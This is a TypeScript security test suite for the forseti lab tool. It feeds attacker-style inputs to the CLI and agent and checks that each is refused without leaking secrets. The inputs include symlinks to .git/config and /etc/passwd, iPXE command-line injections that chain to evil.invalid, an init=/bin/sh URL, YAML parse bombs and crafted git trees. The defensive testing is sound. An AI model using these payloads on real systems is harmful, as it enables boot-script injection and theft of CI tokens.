// What a commit or a pull request can put in front of forseti, tried as an attacker would, against the real CLI
// (`forseti validate|render|plan` in a child process) and the real agent (in-process, fetching from git's own
// http-backend): symbolic links out of the tree, the CI checkout's .git/config, newlines in paths, iPXE injection
// through the command line and image URLs, malformed escapes, parse bombs, oversize files and labs, and trees the
// Git layer refuses. Each is refused with a problem at file:line:col, and no byte of a file outside the tree is
// ever printed, logged or published.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { after, before, test } from 'node:test';
import { Agent } from '../src/agent/agent.ts';
import { loadAgentConfig } from '../src/agent/config.ts';
import { createLogger } from '../src/log.ts';
import { DEFAULT_LAB_LIMITS } from '../src/model/lab-limits.ts';
import { loadLabOrThrow } from '../src/model/load.ts';
import { renderHost } from '../src/render/host.ts';
import { AgentUrls } from '../src/render/urls.ts';
import { Receiver } from './fixtures/alerts/receiver.ts';
import { runForseti, ROOT, type CliRun } from './fixtures/forseti-cli.ts';
import { git, gitEnv } from './fixtures/git/git-cli.ts';
import { commitFiles, createBareRepo, startGitServer, type GitServer } from './fixtures/git-server.ts';
import { fetchStatus, loopbackAgentConfig, writeTree } from './fixtures/loopback-lab.ts';
import { waitForStatus } from './e2e/status-branch.ts';

const MINIMAL = join(ROOT, 'test/fixtures/labs/minimal');
/** What files outside the tree hold; none of it may appear in any output. */
const TOKEN = 'c2VjcmV0LWNpLXRva2VuLTQyNDI=';
const SECRET = `AUTHORIZATION: basic ${TOKEN}`;

let work = '';
let outside = '';

before(() => {
  work = mkdtempSync(join(tmpdir(), 'forseti-sec-input-'));
  outside = join(work, 'outside');
  mkdirSync(join(outside, 'hosts'), { recursive: true });
  writeFileSync(join(outside, 'secret.txt'), `password: hunter2\n${SECRET}\n`);
  writeFileSync(join(outside, 'ca.pem'), `-----BEGIN CERTIFICATE-----\n${TOKEN}\n-----END CERTIFICATE-----\n`);
  writeFileSync(join(outside, 'hosts/stolen.yaml'), `apiVersion: forseti/v1\nkind: Host\nname: stolen\nlabels: {leak: '${TOKEN}'}\n`);
});

after(() => rmSync(work, { recursive: true, force: true }));

let labs = 0;
/** A copy of the minimal lab, changed by `change`. */
function lab(change: (dir: string) => void): string {
  const dir = join(work, `lab-${++labs}`);
  cpSync(MINIMAL, dir, { recursive: true });
  change(dir);
  return dir;
}

function write(dir: string, file: string, text: string): void {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  writeFileSync(join(dir, file), text);
}

function link(dir: string, file: string, target: string): void {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  rmSync(join(dir, file), { recursive: true, force: true });
  symlinkSync(target, join(dir, file));
}

const lines = (...l: string[]): string => `${l.join('\n')}\n`;
const workerWithFile = (file: string): string => lines('apiVersion: forseti/v1', 'kind: Profile', 'name: worker', 'boot:', '  image: tiny', '  cmdline: console=ttyS0 cfg={{ urls.config }}', `  config: {name: user-data, file: ${JSON.stringify(file)}}`);
const worker = (cmdline: string): string => lines('apiVersion: forseti/v1', 'kind: Profile', 'name: worker', 'boot:', '  image: tiny', `  cmdline: ${JSON.stringify(cmdline)}`);
const tinyImage = (kernelUrl: string): string => lines('apiVersion: forseti/v1', 'kind: Image', 'name: tiny', `kernel: {url: '${kernelUrl}', sha256: ${'a'.repeat(64)}}`);
const redfishHost = (ca: string): string =>
  lines('apiVersion: forseti/v1', 'kind: Host', 'name: node-3', 'macs: [aa:bb:cc:00:00:03]', 'ip: 10.9.0.23', 'bmc:', '  type: redfish', '  address: 10.9.1.23', '  credential: node-bmc', '  tls:', `    ca: ${JSON.stringify(ca)}`, 'role: off');

/** No byte of the outside files in any output, and every problem line is one `file:line:col: message` line. */
function assertRefused(run: CliRun, code: number, ...expected: RegExp[]): void {
  const all = `${run.stdout}\n${run.stderr}`;
  assert.equal(run.code, code, all);
  for (const pattern of expected) assert.match(all, pattern);
  for (const leak of [TOKEN, 'hunter2', 'stolen']) assert.ok(!all.includes(leak), `output carries "${leak}":\n${all}`);
  assert.doesNotMatch(all, /URI malformed|Maximum call stack|RangeError|TypeError|\n\s+at /, 'no crash, no stack trace');
}

async function validate(dir: string, code: number, ...expected: RegExp[]): Promise<void> {
  assertRefused(await runForseti(['validate', dir]), code, ...expected);
}

test('a config template, CA file, SOPS file or hosts/ that is a symbolic link out of the tree is refused by validate and render; links inside the tree are followed', async () => {
  const template = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('configs/user-data'));
    link(d, 'configs/user-data', join(outside, 'secret.txt'));
  });
  const outsideRef = /profiles\/worker\.yaml:7:\d+: boot\.config\.file "configs\/user-data": the path leads outside the lab repository/;
  await validate(template, 1, outsideRef);
  assertRefused(await runForseti(['render', template, '--host', 'node-1', '--what', 'config']), 1, outsideRef);

  // a chain of relative links, the last one leaving the tree
  const chain = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('configs/a'));
    link(d, 'configs/a', 'b');
    link(d, 'configs/b', '../../outside/secret.txt');
  });
  await validate(chain, 1, /profiles\/worker\.yaml:7:\d+: boot\.config\.file "configs\/a": the path leads outside/);

  // a directory link on the way, and /dev/zero, /proc and a FIFO: never opened, never waited on
  const viaDir = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('etc/passwd'));
    link(d, 'etc', '/etc');
  });
  await validate(viaDir, 1, /boot\.config\.file "etc\/passwd": the path leads outside/);
  const zero = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('configs/zero'));
    link(d, 'configs/zero', '/dev/zero');
  });
  await validate(zero, 1, /boot\.config\.file "configs\/zero": the path leads outside/);
  const fifo = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('configs/fifo'));
    mkdirSync(join(d, 'configs'));
    execFileSync('mkfifo', [join(d, 'configs/fifo')]);
  });
  await validate(fifo, 1, /boot\.config\.file "configs\/fifo": the path names a FIFO; forseti reads regular files only/);

  const ca = lab((d) => {
    write(d, 'hosts/node-3.yaml', redfishHost('certs/ca.pem'));
    link(d, 'certs/ca.pem', join(outside, 'ca.pem'));
  });
  await validate(ca, 1, /hosts\/node-3\.yaml:11:9: bmc\.tls\.ca "certs\/ca\.pem": the path leads outside the lab repository/);

  const sops = lab((d) => link(d, 'secrets.sops.yaml', join(outside, 'secret.txt')));
  await validate(sops, 1, /^secrets\.sops\.yaml:1:1: the path leads outside the lab repository/m);

  const hosts = lab((d) => link(d, 'hosts', join(outside, 'hosts')));
  await validate(hosts, 1, /^hosts:1:1: the path leads outside the lab repository/m);
  const hostFile = lab((d) => link(d, 'hosts/node-9.yaml', join(outside, 'hosts/stolen.yaml')));
  await validate(hostFile, 1, /^hosts\/node-9\.yaml:1:1: the path leads outside the lab repository/m);

  // Inside the tree, links are followed: a shared template, and a hosts/ that is a link to another directory of the lab.
  const inside = lab((d) => {
    write(d, 'profiles/worker.yaml', workerWithFile('configs/user-data'));
    write(d, 'shared/user-data', '#cloud-config\nhostname: {{ host.name }}\n');
    link(d, 'configs/user-data', '../shared/user-data');
    execFileSync('mv', [join(d, 'hosts'), join(d, 'inventory')]);
    link(d, 'hosts', 'inventory');
  });
  const valid = await runForseti(['validate', inside]);
  assert.equal(valid.code, 0, valid.stdout + valid.stderr);
  const rendered = await runForseti(['render', inside, '--host', 'node-1', '--what', 'config']);
  assert.equal(rendered.stdout, '#cloud-config\nhostname: node-1\n');
});

test("plan on a pull request that links a config template to the CI checkout's .git/config prints no byte of it", async () => {
  const repo = join(work, 'ci-checkout');
  cpSync(MINIMAL, repo, { recursive: true });
  await git(['init', '-q', '-b', 'main'], repo);
  // what actions/checkout leaves behind: the job's token as an extra header in the checkout's own git config
  await git(['config', 'http.https://forge.invalid/.extraheader', SECRET], repo);
  await git(['add', '-A'], repo);
  await git(['commit', '-q', '-m', 'lab'], repo);
  await git(['checkout', '-q', '-b', 'pr'], repo);
  write(repo, 'profiles/worker.yaml', workerWithFile('configs/user-data'));
  link(repo, 'configs/user-data', join(repo, '.git/config'));
  link(repo, 'configs/relative', '../.git/config');
  await git(['add', '-A'], repo);
  await git(['commit', '-q', '-m', 'exfiltrate'], repo);
  assert.ok(readFileSync(join(repo, 'configs/user-data'), 'utf8').includes(TOKEN), 'the link does reach the token');

  for (const format of ['markdown', 'text', 'json']) {
    const run = await runForseti(['plan', '--base', 'main', '--head', 'pr', '--format', format, repo]);
    assertRefused(run, 2, /boot\.config\.file \\?"configs\/user-data\\?": the path leads outside the lab repository/);
    if (format !== 'json') assert.match(run.stdout, /^profiles\/worker\.yaml:7:35: boot\.config\.file/m);
  }
  // In the checkout itself the link stays inside the directory, but .git is not part of the lab.
  await validate(repo, 1, /boot\.config\.file "configs\/user-data": the path leads outside the lab repository \(through a symbolic link, or into \.git\)/);
  assertRefused(await runForseti(['render', repo, '--host', 'node-1', '--what', 'config']), 1);
  write(repo, 'profiles/worker.yaml', workerWithFile('configs/relative'));
  await validate(repo, 1, /boot\.config\.file "configs\/relative": the path leads outside/);
});

test('newlines and other control characters in paths are refused at file:line:col', async () => {
  const named = lab((d) => write(d, 'profiles/worker.yaml', workerWithFile('x\n/../../state/agent.key')));
  await validate(named, 1, /^profiles\/worker\.yaml:7:\d+: boot\.config\.file: must be a path relative to the lab repository root, without '\.\.', '\.git' or control characters$/m);
  const ca = lab((d) => write(d, 'hosts/node-3.yaml', redfishHost('certs/ca.pem\n/../../../outside/ca.pem')));
  await validate(ca, 1, /^hosts\/node-3\.yaml:11:9: bmc\.tls\.ca: must be a path relative/m);
  const gitDir = lab((d) => write(d, 'profiles/worker.yaml', workerWithFile('.git/config')));
  await validate(gitDir, 1, /boot\.config\.file: must be a path relative/);
  // A file whose name holds a newline is named escaped, on one line.
  const file = lab((d) => write(d, 'hosts/node-\n1.yaml', 'x: 1\n'));
  const run = await runForseti(['validate', file]);
  assertRefused(run, 1, /^hosts\/node-\\n1\.yaml:1:1: this path has a control character in its name/m);
  for (const line of run.stdout.trimEnd().split('\n')) assert.match(line, /^[^\s]+:\d+:\d+: /);
});

test('no line break, control character or iPXE separator reaches a boot script through a command line or an image URL; malformed escapes are problems, not crashes', async () => {
  const cases: Array<[string, (d: string) => void, RegExp]> = [
    ['cmdline newline', (d) => write(d, 'profiles/worker.yaml', worker('console=ttyS0\nchain http://evil.invalid/x')), /^profiles\/worker\.yaml:6:\d+: boot\.cmdline: control character U\+000A/m],
    ['cmdline CR', (d) => write(d, 'profiles/worker.yaml', worker('console=ttyS0\rchain http://evil.invalid/x')), /boot\.cmdline: control character U\+000D/],
    ['cmdline separator', (d) => write(d, 'profiles/worker.yaml', worker('console=ttyS0 ; chain http://evil.invalid/x')), /boot\.cmdline: the word ";" would end the kernel command/],
    ['URL %0A', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%0Achain%20http://evil.invalid/x')), /^images\/tiny\.yaml:4:41: kernel\.url: "%0A" hides control character U\+000A/m],
    ['URL %0D', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%0D')), /kernel\.url: "%0D" hides control character U\+000D/],
    ['URL %00', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%00')), /kernel\.url: "%00" hides control character U\+0000/],
    ['URL space in the file name', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%20init=%2Fbin%2Fsh')), /kernel\.url: the file name this URL is served under \("vmlinuz init=\/bin\/sh"\) holds white space/],
    ['malformed escape', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%E0%A4%A')), /^images\/tiny\.yaml:4:41: kernel\.url: malformed percent-escape "%E0%A4%A"/m],
    ['invalid UTF-8 escape', (d) => write(d, 'images/tiny.yaml', tinyImage('http://mirror.lan/vmlinuz%E0%A4')), /kernel\.url: malformed percent-escape "%E0%A4" \(not UTF-8\)/],
    ['chain URL', (d) => write(d, 'profiles/worker.yaml', lines('apiVersion: forseti/v1', 'kind: Profile', 'name: worker', 'boot: {chain: "http://boot.invalid/menu%0Achain"}')), /boot\.chain: "%0A" hides control character/],
  ];
  const repo = join(work, 'inject-repo');
  cpSync(MINIMAL, repo, { recursive: true });
  await git(['init', '-q', '-b', 'main'], repo);
  await git(['add', '-A'], repo);
  await git(['commit', '-q', '-m', 'lab'], repo);
  for (const [name, change, expected] of cases) {
    const dir = lab(change);
    await validate(dir, 1, expected);
    const render = await runForseti(['render', dir, '--host', 'node-1']);
    assertRefused(render, 1, expected);
    assert.equal(render.stdout, '', `${name}: no script is printed`);
    await git(['checkout', '-q', '-B', 'pr', 'main'], repo);
    change(repo);
    await git(['add', '-A'], repo);
    await git(['commit', '-q', '-m', name], repo);
    const plan = await runForseti(['plan', '--base', 'main', '--head', 'pr', '--format', 'markdown', repo]);
    assertRefused(plan, 2, new RegExp(expected.source.replace(/^\^/, '').replace(/\$$/, ''), 'm'));
    assert.doesNotMatch(plan.stdout, /^chain /m, `${name}: nothing reaches the plan as a script line`);
    await git(['checkout', '-q', 'main'], repo);
  }
});

test('the renderer itself refuses a script line with a control character, or a URL that does not decode, naming the host', async () => {
  const lab = await loadLabOrThrow(MINIMAL);
  const ctx = { lab, urls: new AgentUrls(lab.site), revision: 'r', token: () => 'TOKEN' };
  const host = lab.hosts.get('node-1');
  const profile = lab.profiles.get('worker');
  const image = lab.images.get('tiny');
  assert.ok(host && profile?.boot.kind === 'image' && image);
  // what validation would refuse, put into the model directly: a gap in validation still cannot inject
  profile.boot.cmdline = 'console=ttyS0\nchain http://evil.invalid/x';
  assert.throws(() => renderHost(host, ctx), { name: 'RenderError', message: /host node-1: .*control character U\+000A/ });
  profile.boot.cmdline = 'console=ttyS0 && chain http://evil.invalid/x';
  assert.throws(() => renderHost(host, ctx), { name: 'RenderError', message: /host node-1: refusing to write the kernel line: the word "&&"/ });
  profile.boot.cmdline = 'console=ttyS0';
  image.kernel = { ...image.kernel, url: 'http://mirror.lan/vmlinuz%E0%A4%A' };
  assert.throws(() => renderHost(host, ctx), { name: 'RenderError', message: /host node-1: cannot name the file of/ });
  image.kernel = { ...image.kernel, url: 'http://mirror.lan/vmlinuz%0Aboot' };
  assert.throws(() => renderHost(host, ctx), { name: 'RenderError', message: /host node-1: refusing to write/ });
});

test('parse bombs and oversize files or labs are problems at file:line:col, not crashes', async () => {
  const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (const [name, prev] of [['b', 'a'], ['c', 'b'], ['d', 'c'], ['e', 'd'], ['f', 'e'], ['g', 'f'], ['h', 'g'], ['i', 'h']]) bomb.push(`${name}: &${name} [${Array(9).fill(`*${prev}`).join(',')}]`);
  await validate(lab((d) => write(d, 'hosts/node-2.yaml', lines(...bomb))), 1, /^hosts\/node-2\.yaml:2:\d+: more than 100 YAML aliases/m);
  const manyAliases = `a: &a x\nb: [${Array(150).fill('*a').join(', ')}]\n`;
  await validate(lab((d) => write(d, 'hosts/node-2.yaml', manyAliases)), 1, /^hosts\/node-2\.yaml:2:\d+: more than 100 YAML aliases/m);
  const deepFlow = `labels: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`;
  await validate(lab((d) => write(d, 'hosts/node-2.yaml', deepFlow)), 1, /^hosts\/node-2\.yaml:1:\d+: nesting deeper than 64 levels/m);
  const deepCompact = `${'- '.repeat(100_000)}x\n`;
  await validate(lab((d) => write(d, 'hosts/node-2.yaml', deepCompact)), 1, /^hosts\/node-2\.yaml:1:\d+: nesting deeper than 64 levels/m);
  const deepBlock = Array.from({ length: 1000 }, (_, i) => `${' '.repeat(i)}k:`).join('\n') + ' v\n';
  await validate(lab((d) => write(d, 'hosts/node-2.yaml', deepBlock)), 1, /^hosts\/node-2\.yaml:\d+:\d+: nesting deeper than 64 levels/m);
  await validate(lab((d) => write(d, 'secrets.sops.yaml', deepFlow)), 1, /^secrets\.sops\.yaml:1:\d+: nesting deeper than 64 levels/m);

  const big = lab((d) => write(d, 'hosts/node-2.yaml', `# ${'x'.repeat(20 * 1024 * 1024)}\n`));
  await validate(big, 1, /^hosts\/node-2\.yaml:1:1: the file is 20\.0 MiB, larger than the 1 MiB a lab file may be$/m);
  const huge = lab((d) => {
    const filler = `# ${'x'.repeat(1_040_000)}\n`;
    for (let i = 0; i < 65; i++) write(d, `profiles/filler-${String(i).padStart(2, '0')}.yaml`, filler);
  });
  const run = await runForseti(['validate', huge]);
  assertRefused(run, 1, /^profiles\/filler-\d\d\.yaml:1:1: the lab is larger than 64 MiB \(the files forseti reads, together\)/m);
  assert.equal(run.stdout.trimEnd().split('\n').length, 1, 'one problem: the load stops there');
  // CI can run with the caps an agent's lab.limits raised or lowered
  assertRefused(await runForseti(['validate', MINIMAL, '--max-lab-bytes', '500']), 1, /^hosts\/node-2\.yaml:1:1: the lab is larger than 500 bytes/m);
  const raised = await runForseti(['validate', big, '--max-file-bytes', String(32 * 1024 * 1024)]);
  assert.doesNotMatch(raised.stdout, /larger than/, 'within a raised cap the 20 MiB file is read (and found to be no host)');
});

/** A TCP port nobody listens on right now (the kernel picks it). */
function freeTcpPort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const address = server.address();
      server.close(() => resolve(typeof address === 'object' && address ? address.port : 0));
    });
  });
}

/** The git CLI in `dir`, with stdin: plumbing to write objects git's porcelain would refuse to make. */
function plumbing(dir: string, args: string[], input?: Buffer): string {
  return execFileSync('git', args, { cwd: dir, env: gitEnv, ...(input ? { input } : {}) }).toString().trim();
}

/**
 * Pushes to main a commit whose tree is `base`'s plus `entry` (a directory holding `evil.yaml`) inside `under` ('' for
 * the root; none: `base`'s tree as it is), written as raw objects: git's own commands never make such entries, a
 * crafted push can. Its parent is main's head.
 */
async function pushCraftedTree(server: GitServer, repo: string, base: string, under?: string, entry?: string): Promise<string> {
  const clone = mkdtempSync(join(tmpdir(), 'forseti-sec-craft-'));
  try {
    await git(['clone', '-q', '--no-checkout', '--single-branch', '--branch', 'main', server.repoUrl(repo), clone]);
    const tree = (entries: Array<{ mode: string; name: string; oid: string }>): string => {
      const sorted = [...entries].sort((a, b) => Buffer.compare(Buffer.from(a.mode === '40000' ? `${a.name}/` : a.name), Buffer.from(b.mode === '40000' ? `${b.name}/` : b.name)));
      const bytes = Buffer.concat(sorted.map((e) => Buffer.concat([Buffer.from(`${e.mode} ${e.name}\0`), Buffer.from(e.oid, 'hex')])));
      return plumbing(clone, ['hash-object', '-w', '-t', 'tree', '--literally', '--stdin'], bytes);
    };
    const list = (treeish: string): Array<{ mode: string; name: string; oid: string }> =>
      plumbing(clone, ['ls-tree', '-z', treeish]).split('\0').filter(Boolean).map((line) => {
        const [meta = '', name = ''] = line.split('\t');
        const [mode = '', , oid = ''] = meta.split(' ');
        return { mode: mode === '040000' ? '40000' : mode, name, oid };
      });
    const blob = plumbing(clone, ['hash-object', '-w', '--stdin'], Buffer.from(`apiVersion: forseti/v1\nkind: Host\nname: evil\n`));
    const evil = { mode: '40000', name: entry ?? '', oid: tree([{ mode: '100644', name: 'evil.yaml', oid: blob }]) };
    let root = plumbing(clone, ['rev-parse', `${base}^{tree}`]);
    if (under === '') root = tree([...list(base), evil]);
    else if (under !== undefined) {
      const sub = tree([...list(`${base}:${under}`), evil]);
      root = tree([...list(base).filter((e) => e.name !== under), { mode: '40000', name: under, oid: sub }]);
    }
    const commit = plumbing(clone, ['commit-tree', root, '-p', 'HEAD', '-m', entry === undefined ? 'revert' : `crafted ${JSON.stringify(entry)}`]);
    await git(['push', '-q', server.repoUrl(repo), `${commit}:refs/heads/main`], clone);
    return commit;
  } finally {
    rmSync(clone, { recursive: true, force: true });
  }
}

test('the agent rejects every kind of refused commit on the status branch with a commit-rejected alert, once, and applies the revert', { timeout: 180_000 }, async () => {
  const dir = mkdtempSync(join(tmpdir(), 'forseti-sec-agent-'));
  const receiver = new Receiver();
  const hook = await receiver.start();
  const port = await freeTcpPort();
  const logged: string[] = [];
  const log = createLogger({ level: 'info', destination: new Writable({ write: (c: Buffer, _e, cb) => void (logged.push(c.toString()), cb()) }) });
  let server: GitServer | undefined;
  let agent: Agent | undefined;
  try {
    const site = lines(
      'apiVersion: forseti/v1',
      'kind: Site',
      'name: loop',
      'network: {interface: lo, subnet: 127.0.0.0/24, dns: []}',
      `agent: {address: 127.0.0.1, httpPort: ${port}, tftpPort: ${port}}`,
      'alerts:',
      '  retry: {initialSeconds: 0.1, maxSeconds: 0.1}',
      `  sinks: [{name: hook, type: webhook, url: '${hook}/hook'}]`,
    );
    const host = lines('apiVersion: forseti/v1', 'kind: Host', 'name: hand', "macs: ['02:00:00:00:07:01']", 'ip: 127.0.0.71', 'bmc: {type: manual}', 'role: off');
    const good = { 'site.yaml': site, 'profiles/off.yaml': lines('apiVersion: forseti/v1', 'kind: Profile', 'name: off', 'boot: {off: true}'), 'hosts/hand.yaml': host };
    await writeTree(join(dir, 'seed'), good);
    server = await startGitServer();
    await createBareRepo(server, 'lab', join(dir, 'seed'));
    const config = await loopbackAgentConfig(dir, server.repoUrl('lab'), { tftp: false });
    // the caps come from the agent's configuration file
    const configFile = join(dir, 'agent.yaml');
    writeFileSync(configFile, lines('lab:', '  url: http://127.0.0.1:1/lab.git', '  limits: {maxLabBytes: 65536}'));
    config.lab.limits = (await loadAgentConfig(configFile)).lab.limits;
    assert.deepEqual(config.lab.limits, { ...DEFAULT_LAB_LIMITS, maxLabBytes: 65536 });
    writeFileSync(configFile, lines('lab:', '  url: http://127.0.0.1:1/lab.git', '  limits: {maxLabBytes: 0}'));
    await assert.rejects(loadAgentConfig(configFile), /lab\.limits: maxLabBytes must be a whole number of at least 1/);
    agent = new Agent(config, log);
    await agent.start();
    const base = `http://127.0.0.1:${port}`;
    const first = agent.current?.revision;
    assert.ok(first, 'the first commit is applied');

    const alertFor = async (commit: string): Promise<string> => {
      for (const deadline = Date.now() + 30_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
        const alert = receiver.received.find((r) => r.body.includes(commit));
        if (alert) return alert.body;
      }
      throw new Error(`no alert for ${commit}`);
    };
    const expectRejected = async (commit: string, error: RegExp): Promise<void> => {
      await agent?.poll();
      const view = await fetchStatus(base);
      assert.equal(view.site?.rejected?.revision, commit);
      assert.equal(view.site?.revision, first, 'the last good commit keeps serving');
      assert.match(view.site?.rejected?.errors.join('\n') ?? '', error);
      assert.match(await alertFor(commit), /commit-rejected/);
      await agent?.poll(); // the same head again: not rejected twice
      assert.equal((await fetchStatus(base)).site?.reconciles?.filter((r) => r.revision === commit).length, 1);
    };

    await expectRejected(await commitFiles(server, 'lab', 'main', { 'hosts/bomb.yaml': `labels: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n` }, 'nesting bomb'), /^hosts\/bomb\.yaml:1:\d+: nesting deeper than 64 levels/m);
    await expectRejected(await commitFiles(server, 'lab', 'main', { 'hosts/bomb.yaml': null, 'profiles/big.yaml': `# ${'x'.repeat(70_000)}\n` }, 'over the lab limit'), /^profiles\/big\.yaml:1:1: the lab is larger than 64 KiB/m);
    // a link out of the tree, in a commit: a validation problem where the host names it
    const clone = mkdtempSync(join(tmpdir(), 'forseti-sec-link-'));
    let linked: string;
    try {
      await git(['clone', '-q', server.repoUrl('lab'), clone]);
      rmSync(join(clone, 'profiles/big.yaml'));
      write(clone, 'hosts/hand.yaml', host.replace('bmc: {type: manual}', 'bmc: {type: redfish, address: 127.0.0.9, credential: x, tls: {ca: certs/ca.pem}}'));
      link(clone, 'certs/ca.pem', join(outside, 'ca.pem'));
      await git(['add', '-A'], clone);
      await git(['commit', '-q', '-m', 'link out'], clone);
      await git(['push', '-q', 'origin', 'HEAD:main'], clone);
      linked = (await git(['rev-parse', 'HEAD'], clone)).trim();
    } finally {
      rmSync(clone, { recursive: true, force: true });
    }
    await expectRejected(linked, /^hosts\/hand\.yaml:6:\d+: bmc\.tls\.ca "certs\/ca\.pem": the path leads outside the lab repository/m);

    // Trees the Git layer refuses: nothing of them is written, and the commit is rejected like the others.
    await expectRejected(await pushCraftedTree(server, 'lab', first, '', '..'), /^\.\.:1:1: git refuses an entry of this name/m);
    await expectRejected(await pushCraftedTree(server, 'lab', first, 'hosts', '.git'), /^hosts\/\.git:1:1: git refuses an entry of this name/m);
    await expectRejected(await pushCraftedTree(server, 'lab', first, 'hosts', 'hand.yaml'), /^hosts\/hand\.yaml:1:1: the tree holds two entries of this name/m);
    const newline = await pushCraftedTree(server, 'lab', first, 'hosts', 'a\nb');
    await expectRejected(newline, /^hosts\/a\\nb:1:1: a control character in a file name/m);
    const onBranch = await waitForStatus(server, 'lab', (s) => s.site?.rejected?.revision === newline, 60_000, 'the last rejection on the status branch');
    assert.match(onBranch.site?.rejected?.errors.join('\n') ?? '', /^hosts\/a\\nb:1:1: /m);

    // The revert: the lab as it was, applied; the rejection clears.
    const revert = await pushCraftedTree(server, 'lab', first);
    await agent.poll();
    const applied = await fetchStatus(base);
    assert.equal(applied.site?.revision, revert);
    assert.equal(applied.site?.rejected, null);

    const everything = [logged.join(''), JSON.stringify(applied), ...receiver.received.map((r) => r.body)].join('\n');
    for (const leak of [TOKEN, 'hunter2']) assert.ok(!everything.includes(leak), `"${leak}" was published`);
    assert.doesNotMatch(logged.join(''), /poll failed/, 'a refused commit is a rejection, not a failed poll retried forever');
  } finally {
    await agent?.stop();
    await server?.close();
    await receiver.stop();
    rmSync(dir, { recursive: true, force: true });
  }
});
